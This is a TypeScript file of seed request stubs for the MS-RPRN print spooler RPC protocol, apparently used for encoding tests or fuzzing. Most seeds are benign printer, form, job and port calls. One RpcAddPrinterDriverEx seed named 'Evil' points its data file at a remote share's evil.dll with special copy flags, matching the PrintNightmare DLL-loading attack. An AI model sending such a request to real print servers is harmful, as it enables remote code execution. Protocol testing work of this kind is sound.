/**
 * Valid MS-RPRN request stubs, encoded by the messages themselves ([MS-RPRN] 3.1.4): the calls
 * AddPrinterConnection, rpcclient and impacket make, with strings, containers and buffers filled
 * in. A message without a value here is seeded with the request its decoder reads from zeros
 * (every pointer NULL), encoded back.
 */
import {
  decodeRequestStub,
  encodeRequestStub,
  type AnyNdrMessage,
  type RequestOf,
} from '../../../lib/rpc/ndr/ndr-message';
import { RPRN_MESSAGES } from '../../../lib/rpc/rprn/messages/index';
import { encodeDeletePortData, encodePortData } from '../../../lib/spoolss/tcpxcv';

const HANDLE = Buffer.concat([Buffer.alloc(4), Buffer.from('0123456789abcdef', 'hex'), Buffer.alloc(8, 0x11)]);
const M = RPRN_MESSAGES;

type Seed<K extends keyof typeof M> = readonly [K, RequestOf<(typeof M)[K]>];

const CLIENT_INFO = {
  level: 1,
  info: {
    dwSize: 28,
    pMachineName: '\\\\CLIENT',
    pUserName: 'alice',
    dwBuildNum: 22631,
    dwMajorVersion: 10,
    dwMinorVersion: 0,
    wProcessorArchitecture: 9,
  },
};

const SEEDS = [
  [
    'RpcOpenPrinterEx',
    {
      printerName: '\\\\NTPRINT\\HpColor',
      datatype: 'RAW',
      devMode: Buffer.alloc(24, 1),
      accessRequired: 0x00020008,
      clientInfo: CLIENT_INFO,
    },
  ] as Seed<'RpcOpenPrinterEx'>,
  [
    'RpcOpenPrinter',
    { printerName: '\\\\NTPRINT', datatype: undefined, devMode: undefined, accessRequired: 0x00020002 },
  ] as Seed<'RpcOpenPrinter'>,
  [
    'RpcEnumPrinters',
    { flags: 2, name: '\\\\NTPRINT', level: 2, buffer: { buffer: Buffer.alloc(64), cbBuf: 64 } },
  ] as Seed<'RpcEnumPrinters'>,
  ['RpcGetPrinter', { hPrinter: HANDLE, level: 2, buffer: { buffer: undefined, cbBuf: 0 } }] as Seed<'RpcGetPrinter'>,
  [
    'RpcGetPrinterDriver2',
    {
      hPrinter: HANDLE,
      environment: 'Windows x64',
      level: 8,
      buffer: { buffer: Buffer.alloc(16), cbBuf: 16 },
      clientMajorVersion: 3,
      clientMinorVersion: 0,
    },
  ] as Seed<'RpcGetPrinterDriver2'>,
  [
    'RpcEnumPrinterDataEx',
    { hPrinter: HANDLE, keyName: 'CopyFiles\\ICM', cbEnumValues: 4096 },
  ] as Seed<'RpcEnumPrinterDataEx'>,
  ['RpcEnumPrinterKey', { hPrinter: HANDLE, keyName: 'CopyFiles', cbSubkey: 256 }] as Seed<'RpcEnumPrinterKey'>,
  [
    'RpcGetPrinterDataEx',
    { hPrinter: HANDLE, keyName: 'PrinterDriverData', valueName: 'Model', nSize: 64 },
  ] as Seed<'RpcGetPrinterDataEx'>,
  [
    'RpcSetPrinterDataEx',
    {
      hPrinter: HANDLE,
      keyName: 'PrinterDriverData',
      valueName: 'Model',
      type: 1,
      data: Buffer.from('HP\0', 'utf16le'),
    },
  ] as Seed<'RpcSetPrinterDataEx'>,
  ['RpcGetPrinterData', { hPrinter: HANDLE, valueName: 'ChangeId', nSize: 4 }] as Seed<'RpcGetPrinterData'>,
  [
    'RpcStartDocPrinter',
    {
      hPrinter: HANDLE,
      docInfoContainer: { level: 1, info: { pDocName: 'report.txt', pOutputFile: undefined, pDatatype: 'RAW' } },
    },
  ] as Seed<'RpcStartDocPrinter'>,
  ['RpcWritePrinter', { hPrinter: HANDLE, data: Buffer.from('%!PS-Adobe-3.0\n') }] as Seed<'RpcWritePrinter'>,
  [
    'RpcEnumJobs',
    { hPrinter: HANDLE, firstJob: 0, noJobs: 10, level: 2, buffer: { buffer: Buffer.alloc(32), cbBuf: 32 } },
  ] as Seed<'RpcEnumJobs'>,
  [
    'RpcGetForm',
    { hPrinter: HANDLE, formName: 'A4', level: 1, buffer: { buffer: Buffer.alloc(32), cbBuf: 32 } },
  ] as Seed<'RpcGetForm'>,
  [
    'RpcAddPrinterEx',
    {
      name: '\\\\NTPRINT',
      printerContainer: {
        level: 2,
        info: {
          pServerName: '\\\\NTPRINT',
          pPrinterName: 'torture_printer',
          pShareName: 'torture_printer',
          pPortName: 'LPT1:',
          pDriverName: 'HP Color LaserJet 4500 PCL',
          pComment: 'a comment',
          pLocation: 'Building A',
          pSepFile: '',
          pPrintProcessor: 'winprint',
          pDatatype: 'RAW',
          pParameters: '',
          pDevMode: 0,
          pSecurityDescriptor: 0,
          Attributes: 0x48,
          Priority: 1,
          DefaultPriority: 0,
          StartTime: 0,
          UntilTime: 0,
          Status: 0,
          cJobs: 0,
          AveragePPM: 0,
        },
      },
      devMode: undefined,
      securityDescriptor: undefined,
      clientInfo: CLIENT_INFO,
    },
  ] as Seed<'RpcAddPrinterEx'>,
  [
    'RpcAddForm',
    {
      hPrinter: HANDLE,
      formContainer: {
        level: 1,
        info: { Flags: 0, pName: 'Torture', cx: 210000, cy: 297000, left: 0, top: 0, right: 210000, bottom: 297000 },
      },
    },
  ] as Seed<'RpcAddForm'>,
  [
    'RpcSetForm',
    {
      hPrinter: HANDLE,
      formName: 'Torture',
      formContainer: {
        level: 2,
        info: {
          Flags: 0,
          pName: 'Torture',
          cx: 100000,
          cy: 100000,
          left: 0,
          top: 0,
          right: 100000,
          bottom: 100000,
          pKeyword: 'TORTURE',
          StringType: 1,
          pMuiDll: undefined,
          dwResourceId: 0,
          pDisplayName: undefined,
          wLangID: 0,
        },
      },
    },
  ] as Seed<'RpcSetForm'>,
  [
    'RpcAddPrinterDriver',
    {
      name: undefined,
      driverContainer: {
        level: 3,
        info: {
          cVersion: 3,
          pName: 'HP Color',
          pEnvironment: 'Windows x64',
          pDriverPath: 'UNIDRV.DLL',
          pDataFile: 'hpc.gpd',
          pConfigFile: 'UNIDRVUI.DLL',
          pHelpFile: 'UNIDRV.HLP',
          pDependentFiles: ['UNIRES.DLL', 'STDNAMES.GPD'],
          pMonitorName: undefined,
          pDefaultDataType: 'RAW',
        },
      },
    },
  ] as Seed<'RpcAddPrinterDriver'>,
  [
    'RpcAddPrinterDriverEx',
    {
      name: '\\\\NTPRINT',
      driverContainer: {
        level: 2,
        info: {
          cVersion: 3,
          pName: 'Evil',
          pEnvironment: 'Windows x64',
          pDriverPath: 'C:\\Windows\\System32\\UNIDRV.DLL',
          pDataFile: '\\\\10.0.0.66\\share\\evil.dll',
          pConfigFile: 'C:\\Windows\\System32\\kernelbase.dll',
        },
      },
      fileCopyFlags: 0x8014,
    },
  ] as Seed<'RpcAddPrinterDriverEx'>,
  // Ports (issue 15): tcpmon's AddPort with a PORT_DATA_1, localmon's with a name, MonitorUI's probe.
  [
    'RpcXcvData',
    {
      hXcv: HANDLE,
      dataName: 'AddPort',
      inputData: encodePortData({
        version: 1,
        portName: 'IP_10.0.0.9',
        protocol: 1,
        hostAddress: '10.0.0.9',
        snmpCommunity: 'public',
        doubleSpool: 0,
        queue: '',
        ipAddress: '',
        portNumber: 9100,
        snmpEnabled: 1,
        snmpDevIndex: 1,
      }),
      cbOutputData: 0,
      dwStatus: 0,
    },
  ] as Seed<'RpcXcvData'>,
  [
    'RpcXcvData',
    {
      hXcv: HANDLE,
      dataName: 'DeletePort',
      inputData: encodeDeletePortData('IP_10.0.0.9'),
      cbOutputData: 0,
      dwStatus: 0,
    },
  ] as Seed<'RpcXcvData'>,
  [
    'RpcXcvData',
    { hXcv: HANDLE, dataName: 'AddPort', inputData: Buffer.from('LPT7:\0', 'utf16le'), cbOutputData: 0, dwStatus: 0 },
  ] as Seed<'RpcXcvData'>,
  [
    'RpcXcvData',
    { hXcv: HANDLE, dataName: 'MonitorUI', inputData: Buffer.alloc(0), cbOutputData: 64, dwStatus: 0 },
  ] as Seed<'RpcXcvData'>,
  ['RpcAddPort', { name: '\\\\NTPRINT', hWnd: 0, monitorName: 'Standard TCP/IP Port' }] as Seed<'RpcAddPort'>,
  ['RpcConfigurePort', { name: undefined, hWnd: 0, portName: 'LPT1:' }] as Seed<'RpcConfigurePort'>,
  ['RpcResetPrinter', { hPrinter: HANDLE, datatype: 'TEXT', devMode: Buffer.alloc(220, 2) }] as Seed<'RpcResetPrinter'>,
  ['RpcDeletePort', { name: '\\\\NTPRINT', hWnd: 0, portName: 'IP_10.0.0.5' }] as Seed<'RpcDeletePort'>,
  // Issue 15: job named properties, information contexts, branch office logging.
  [
    'RpcSetJobNamedProperty',
    {
      hPrinter: HANDLE,
      jobId: 2,
      property: { name: 'torture', value: { type: 'buffer', value: Buffer.from('blob') } },
    },
  ] as Seed<'RpcSetJobNamedProperty'>,
  [
    'RpcSetJobNamedProperty',
    { hPrinter: HANDLE, jobId: 2, property: { name: 'text', value: { type: 'string', value: 'value' } } },
  ] as Seed<'RpcSetJobNamedProperty'>,
  [
    'RpcGetJobNamedPropertyValue',
    { hPrinter: HANDLE, jobId: 2, name: 'torture' },
  ] as Seed<'RpcGetJobNamedPropertyValue'>,
  ['RpcCreatePrinterIC', { hPrinter: HANDLE, devMode: Buffer.alloc(24, 1) }] as Seed<'RpcCreatePrinterIC'>,
  [
    'RpcPlayGdiScriptOnPrinterIC',
    { gdiHandle: HANDLE, input: Buffer.alloc(0), cOut: 4, ul: 0 },
  ] as Seed<'RpcPlayGdiScriptOnPrinterIC'>,
  [
    'RpcLogJobInfoForBranchOffice',
    {
      hPrinter: HANDLE,
      entries: [
        { event: 'offlineFileFull', jobId: 42, machineName: 'mthelena' },
        { event: 'pipelineError', jobId: 7, documentName: 'doc', printerName: 'HpColor', extraErrorInfo: 'x' },
      ],
    },
  ] as Seed<'RpcLogJobInfoForBranchOffice'>,
  [
    'RpcAddPerMachineConnection',
    { server: '\\\\NTPRINT', printerName: '\\\\srv\\p', printServer: 'srv', provider: '' },
  ] as Seed<'RpcAddPerMachineConnection'>,
  [
    'RpcSendRecvBidiData',
    {
      hPrinter: HANDLE,
      action: 'Get',
      requests: [
        { reqNumber: 1, schema: '\\Printer.Status.Summary:State', data: { type: 'null' } },
        { reqNumber: 2, schema: '\\Printer.X', data: { type: 'blob', value: Buffer.from('ab') } },
      ],
    },
  ] as Seed<'RpcSendRecvBidiData'>,
] as const;

function fromZeros(message: AnyNdrMessage): Buffer | undefined {
  for (const length of [4, 8, 20, 24, 28, 32, 40, 48, 64, 128]) {
    try {
      return encodeRequestStub(message, decodeRequestStub(message, Buffer.alloc(length)));
    } catch {
      // a longer run of zeros, or no seed
    }
  }
  return undefined;
}

/** Request stubs by message name. */
export function rprnRequestSeeds(): ReadonlyMap<string, readonly Buffer[]> {
  const out = new Map<string, Buffer[]>();
  for (const [name, request] of SEEDS) {
    const message = M[name] as AnyNdrMessage;
    out.set(name, [...(out.get(name) ?? []), encodeRequestStub(message, request)]);
  }
  for (const message of Object.values(M) as AnyNdrMessage[]) {
    if (out.has(message.name)) continue;
    const zero = fromZeros(message);
    out.set(message.name, zero !== undefined ? [zero] : []);
  }
  return out;
}
